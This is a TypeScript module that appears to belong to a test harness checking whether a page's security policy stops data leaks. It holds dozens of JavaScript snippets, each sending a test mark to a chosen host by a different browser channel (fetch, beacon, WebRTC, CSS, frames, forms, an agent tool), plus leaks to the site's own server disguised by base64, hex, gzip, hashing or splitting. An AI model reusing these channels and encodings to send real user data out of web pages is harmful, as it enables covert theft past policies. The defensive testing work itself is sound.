/**
 * @module Probes: scripts for all ways in which a page can send data. Each probe sends its own mark (see `marks.ts`) to
 * its own host, so that a capture tells the probes apart.
 */

export interface Probe {
  readonly name: string
  /** Target. `channel`: another server. `planted`: the shop's own server, to which no policy can prevent a leak. */
  readonly kind: 'channel' | 'planted'
  /** Place where the script runs. `opener`: a page of its own, because the script navigates away. */
  readonly where: 'page' | 'opener' | 'worker' | 'service worker'
  readonly script: string
}

/** Variables of a probe's script: mark `M`, host `H`, URL `U` on that host with the mark, secure URL `S`. */
const PRELUDE = `
const U = (location.protocol === 'https:' ? 'https://' : 'http://') + H + '/' + M;
const S = 'https://' + H + '/' + M;
const add = (name, fields = {}, to = document.body) => to.append(Object.assign(document.createElement(name), fields));
const link = (rel, fields = {}) => add('link', { rel, href: U, ...fields }, document.head);
const style = (text) => add('style', { textContent: text });
const text = (bytes) => String.fromCharCode(...bytes);
const hex = (bytes) => [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('');
const bytes = (text) => new TextEncoder().encode(text);
const packed = async (format) => new Uint8Array(await new Response(new Blob([M]).stream().pipeThrough(new CompressionStream(format))).arrayBuffer());
const ask = (init = {}) => fetch('/', { cache: 'no-store', ...init });
const say = (value) => ask({ headers: { accept: value } });
const page = '<script>fetch(' + JSON.stringify(U) + ')</scr' + 'ipt><img src="' + U + '">';
const blob = () => URL.createObjectURL(new Blob([page], { type: 'text/html' }));
const rtc = async (url) => { const c = new RTCPeerConnection({ iceServers: [{ urls: url, username: M, credential: M }] }); c.createDataChannel(M); await c.setLocalDescription(await c.createOffer()); globalThis['rtc' + M] = c; };
`

const PAGE: Readonly<Record<string, string>> = {
  fetch: 'fetch(U)',
  'fetch without CORS': "fetch(U, { method: 'POST', mode: 'no-cors', body: M })",
  'fetch, keepalive': "fetch(U, { keepalive: true, mode: 'no-cors' })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('POST', U); x.send(M)",
  beacon: 'navigator.sendBeacon(U, M)',
  WebSocket: "new WebSocket(U.replace('http', 'ws'))",
  EventSource: 'new EventSource(U)',
  WebTransport: "new WebTransport('https://' + H + ':4433/' + M).ready.catch(() => 0)",
  'WebRTC, STUN': "await rtc('stun:' + H + ':3478')",
  'WebRTC, TURN over TCP': "await rtc('turn:' + H + ':3479?transport=tcp')",
  image: 'new Image().src = U',
  'image in SVG': `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + U + '"/></svg>')`,
  'CSS background': "document.body.style.backgroundImage = 'url(' + U + ')'",
  'CSS cursor': "document.body.style.cursor = 'url(' + U + '), auto'",
  'CSS mask': "document.body.style.maskImage = 'url(' + U + ')'",
  'CSS image-set': "document.body.style.borderImageSource = 'image-set(url(' + U + ') 1x)'",
  'CSS font': "style('@font-face { font-family: q; src: url(' + U + ') } body { font-family: q }')",
  'CSS import in a layer': "style('@import url(' + U + ') layer(a);')",
  'constructed style sheet':
    "const s = new CSSStyleSheet(); s.replaceSync('html { background: url(' + U + ') }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]",
  'CSS import': "style('@import \"' + U + '\";')",
  stylesheet: "link('stylesheet')",
  font: "new FontFace('f', 'url(' + U + ')').load().catch(() => 0)",
  script: "add('script', { src: U })",
  'script module': 'import(U).catch(() => 0)',
  modulepreload: "link('modulepreload')",
  preload: "link('preload', { as: 'image' })",
  prefetch: "link('prefetch')",
  icon: "link('icon')",
  manifest:
    "document.querySelectorAll('link[rel=manifest]').forEach((old) => old.remove()); link('manifest')",
  video: "add('video', { src: U, preload: 'auto' })",
  track: `document.body.insertAdjacentHTML('beforeend', '<video crossorigin src="data:video/mp4;base64,"><track default kind="captions" src="' + U + '"></video>'); document.body.lastElementChild.textTracks[0].mode = 'showing'`,
  fetchLater: 'fetchLater(S, { activateAfter: 0 })',
  WebSocketStream: "new WebSocketStream(U.replace('http', 'ws')).opened.catch(() => 0)",
  'image by srcset': "add('img', { srcset: U + ' 1x' })",
  'image of a button': "add('input', { type: 'image', src: U })",
  'image of a filter': `document.body.insertAdjacentHTML('beforeend', '<svg width="9" height="9"><filter id="' + M + '"><feImage href="' + U + '"/></filter><rect width="9" height="9" filter="url(#' + M + ')"/></svg>')`,
  poster: "add('video', { poster: U })",
  audio: "add('audio', { src: U, preload: 'auto' })",
  attributionsrc:
    "const i = new Image(); i.setAttribute('attributionsrc', S); i.src = '/favicon.ico'; document.body.append(i)",
  'paint worklet': 'await CSS.paintWorklet.addModule(U).catch(() => 0)',
  'audio worklet': 'await new AudioContext().audioWorklet.addModule(U).catch(() => 0)',
  'shared worker':
    "new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(U) + ')'])))",
  'cache.add': "(await caches.open('probe')).add(U).catch(() => 0)",
  'background fetch':
    '(await navigator.serviceWorker.ready).backgroundFetch.fetch(M, [S]).catch(() => 0)',
  'payment method':
    "new PaymentRequest([{ supportedMethods: S }], { total: { label: M, amount: { currency: 'GBP', value: '1' } } }).canMakePayment().catch(() => 0)",
  'identity provider':
    'navigator.credentials.get({ identity: { providers: [{ configURL: S, clientId: M }] } }).catch(() => 0)',
  'compression dictionary': "link('compression-dictionary')",
  'tool of an agent':
    "const at = document.modelContext; at.registerTool({ name: M, description: M, inputSchema: { type: 'object' }, execute: () => fetch(U) }); const [tool] = (await at.getTools()).filter(({ name }) => name === M); await at.executeTool(tool, {})",
  referrer:
    "const at = location.href; history.replaceState(null, '', '/' + M); add('img', { referrerPolicy: 'unsafe-url', src: new URL('/', U).href }); history.replaceState(null, '', at)",
  'blob: frame': "add('iframe', { src: blob() })",
  'data: frame': "add('iframe', { src: 'data:text/html,' + encodeURIComponent(page) })",
  'srcdoc frame': "add('iframe', { srcdoc: page })",
  'about:blank frame':
    "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(U)",
  'javascript: frame': "add('iframe', { src: 'javascript:void fetch(' + JSON.stringify(U) + ')' })",
  'message to a frame': `const f = document.createElement('iframe'); f.srcdoc = '<script>onmessage = (e) => fetch(e.data)</scr' + 'ipt>'; f.onload = () => f.contentWindow.postMessage(U, '*'); document.body.append(f); for (const one of document.querySelectorAll('iframe')) one.contentWindow.postMessage(U, '*')`,
  'fenced frame':
    "const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig(S); document.body.append(f)",
  iframe: "add('iframe', { src: U })",
  object: "add('object', { data: U })",
  embed: "add('embed', { src: U })",
  'speculation rules':
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', eagerness: 'immediate', urls: [S] }] }) })",
  'speculation rules, prerender':
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ source: 'list', eagerness: 'immediate', urls: [U] }] }) })",
  'DNS prefetch': "link('dns-prefetch', { href: '//' + H })",
  preconnect: "link('preconnect', { href: 'http://' + H })",
  ping: "const a = Object.assign(document.createElement('a'), { href: '#p', ping: U }); document.body.append(a); a.click()",
}

const OPENERS: Readonly<Record<string, string>> = {
  form: "const f = Object.assign(document.createElement('form'), { action: U, method: 'post' }); document.body.append(f); f.submit()",
  location: 'location.href = U',
  link: "const a = Object.assign(document.createElement('a'), { href: U }); document.body.append(a); a.click()",
  'window.open': 'window.open(U)',
  'report-uri of a meta':
    "add('meta', { httpEquiv: 'Content-Security-Policy', content: 'object-src data:; report-uri ' + U }, document.head); add('object', { data: '/favicon.ico' })",
  'form by GET':
    "const f = Object.assign(document.createElement('form'), { action: U }); document.body.append(f); add('input', { name: 'v', value: M }, f); f.submit()",
  'form to a frame':
    "add('iframe', { name: 'into' }); const f = Object.assign(document.createElement('form'), { action: U, method: 'post', target: 'into' }); document.body.append(f); f.submit()",
  'navigation API': 'navigation.navigate(U)',
  'name of a window': "window.open(new URL('/', U), M)",
  'blob: window': 'window.open(blob())',
  'data: window': "window.open('data:text/html,' + encodeURIComponent(page))",
  'about:blank window': "window.open('about:blank').fetch(U)",
  'javascript: window': "window.open('javascript:void fetch(' + JSON.stringify(U) + ')')",
  'fetch as the page ends':
    "addEventListener('beforeunload', () => fetch(U, { keepalive: true, mode: 'no-cors' })); location.href = 'about:blank'",
  'beacon as the page ends':
    "addEventListener('pagehide', () => navigator.sendBeacon(U, M)); location.href = 'about:blank'",
  refresh: "add('meta', { httpEquiv: 'refresh', content: '0;url=' + U }, document.head)",
}

const WORKER: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'script module'].map(
      (name) => [name, PAGE[name]],
    ),
  ),
  'worker of its own':
    "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(U) + ')'])))",
}

const SERVICE_WORKER = { fetch: PAGE.fetch }

const PLANTED_IN_WORKERS = { 'header that every request has': 'say(M)' }

/** Leaks to the shop's own server, in many places of a request and in many encodings. */
const PLANTED: Readonly<Record<string, string>> = {
  'query of an address': "ask(); fetch('/?v=' + M)",
  path: "fetch('/' + M)",
  'path, percent': "fetch('/' + [...bytes(M)].map((b) => '%' + b.toString(16)).join(''))",
  'path, percent twice': "fetch('/' + [...bytes(M)].map((b) => '%25' + b.toString(16)).join(''))",
  header: "ask({ headers: { 'x-viewed': M } })",
  ...PLANTED_IN_WORKERS,
  referrer: "ask({ referrer: '/' + M, referrerPolicy: 'unsafe-url' })",
  'body of a POST': "fetch('/', { method: 'POST', body: M })",
  'body of a PUT': "fetch('/', { method: 'PUT', body: M })",
  form: "const b = new FormData(); b.set('v', M); fetch('/', { method: 'POST', body: b })",
  beacon: "navigator.sendBeacon('/', M)",
  image: "new Image().src = '/?' + M",
  cookie: "document.cookie = 'v=' + M; await ask(); document.cookie = 'v=; max-age=0'",
  WebSocket: "new WebSocket(location.origin.replace('http', 'ws') + '/' + M)",
  EventSource: "new EventSource('/?' + M).onerror = (event) => event.target.close()",
  base64: 'say(btoa(M))',
  'base64, one byte on': "say(btoa('x' + M))",
  'base64, two bytes on': "say(btoa('xy' + M))",
  'base64 for addresses':
    "say(btoa('\\xff\\xfe' + M).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''))",
  hex: 'say(hex(bytes(M)))',
  reversed: "say([...M].reverse().join(''))",
  'JSON escapes':
    "say([...M].map((c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join(''))",
  'UTF-16': "fetch('/', { method: 'POST', body: Uint16Array.from(M, (c) => c.charCodeAt(0)) })",
  gzip: "fetch('/', { method: 'POST', body: await packed('gzip') })",
  deflate: "fetch('/', { method: 'POST', body: await packed('deflate') })",
  'raw deflate': "fetch('/', { method: 'POST', body: await packed('deflate-raw') })",
  'base64 of hex of gzip': "say(btoa(hex(await packed('gzip'))))",
  'hex of base64, reversed': "say([...hex(bytes(btoa(M)))].reverse().join(''))",
  'SHA-256': "say(hex(new Uint8Array(await crypto.subtle.digest('SHA-256', bytes(M)))))",
  'SHA-1 in base64':
    "say(btoa(text(new Uint8Array(await crypto.subtle.digest('SHA-1', bytes(M))))))",
  'split over two requests':
    "const half = M.length / 2; fetch('/?a=' + M.slice(0, half)); fetch('/?b=' + M.slice(half))",
}

const all = (
  scripts: Readonly<Record<string, string>>,
  where: Probe['where'],
  kind: Probe['kind'] = 'channel',
): Probe[] => Object.entries(scripts).map(([name, script]) => ({ name, kind, where, script }))

export const PROBES: readonly Probe[] = [
  ...all(PAGE, 'page'),
  ...all(OPENERS, 'opener'),
  ...all(WORKER, 'worker'),
  ...all(SERVICE_WORKER, 'service worker'),
  ...all(PLANTED, 'page', 'planted'),
  ...all(PLANTED_IN_WORKERS, 'worker', 'planted'),
  ...all(PLANTED_IN_WORKERS, 'service worker', 'planted'),
]

/** Whole script of one probe. It ignores errors, because a policy can cause them. */
export function scriptOf({ script }: Probe, mark: string, host: string): string {
  return `(async () => { const M = ${JSON.stringify(mark)}, H = ${JSON.stringify(host)}; ${PRELUDE}
    try { ${script} } catch {} })()`
}
